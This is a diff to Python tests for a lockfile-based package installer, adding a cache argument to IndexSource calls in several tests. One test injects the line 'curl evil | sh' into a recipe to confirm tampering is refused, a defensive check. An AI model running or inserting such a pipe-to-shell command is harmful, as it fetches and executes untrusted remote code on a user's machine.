@@ -94,7 +94,7 @@ def install_locked(
     project = locked_project(root, lock)
     cache = root / "cache"
     env = Venv(prefix) if venv else CondaPrefix(prefix, cache)
-    install(Request(lock, HOST), IndexSource(project), env, installer_named(installer, cache))
+    install(Request(lock, HOST), IndexSource(project, cache=cache), env, installer_named(installer, cache))
     return project
 
 
@@ -135,7 +135,7 @@ def test_trusted_hosts_are_those_of_the_indexes_the_entries_came_from(tmp_path: 
     lock = demo_lock(entries, indexes=indexes)
     assert trusted_hosts(lock, entries) == ("triton-ascend.osinfra.cn",)
     assert trusted_hosts(lock, entries[1:]) == ()
-    part = IndexSource(locked_project(tmp_path / "project", lock)).pip(lock, HOST, Pip(tmp_path))
+    part = IndexSource(locked_project(tmp_path / "project", lock), cache=tmp_path).pip(lock, HOST, Pip(tmp_path))
     assert part is not None and part.trusted == ("triton-ascend.osinfra.cn",)
     python = tmp_path / "bin" / "python"
     pip = Pip(tmp_path / "cache").command(python, part)
@@ -178,7 +178,7 @@ def test_a_hand_edited_recipe_is_refused(tmp_path: Path) -> None:
     recipe.write_text(recipe.read_text() + "curl evil | sh\n")
     env = Venv(tmp_path / "env")
     with pytest.raises(VerificationError, match="differs from the recipe its lock renders"):
-        install(Request(lock, HOST), IndexSource(project), env, Pip(tmp_path))
+        install(Request(lock, HOST), IndexSource(project, cache=tmp_path), env, Pip(tmp_path))
     assert not env.path.exists()
 
 
@@ -194,7 +194,7 @@ def test_a_hand_edited_pylock_is_refused_before_the_env_is_made(
     pylock.write_text(pylock.read_text().replace(lock.pip[0].sha256, "0" * 64))
     env = Venv(tmp_path / "env")
     with pytest.raises(VerificationError, match=f"locks/{pylock.name} does not carry") as raised:
-        install(Request(lock, HOST), IndexSource(project), env, Uv(tmp_path))
+        install(Request(lock, HOST), IndexSource(project, cache=tmp_path), env, Uv(tmp_path))
     assert f"alpha: 1.2.0 alpha-1.2.0-py3-none-any.whl, sha256 {'0' * 12} here" in str(raised.value)
     assert not env.path.exists()
 
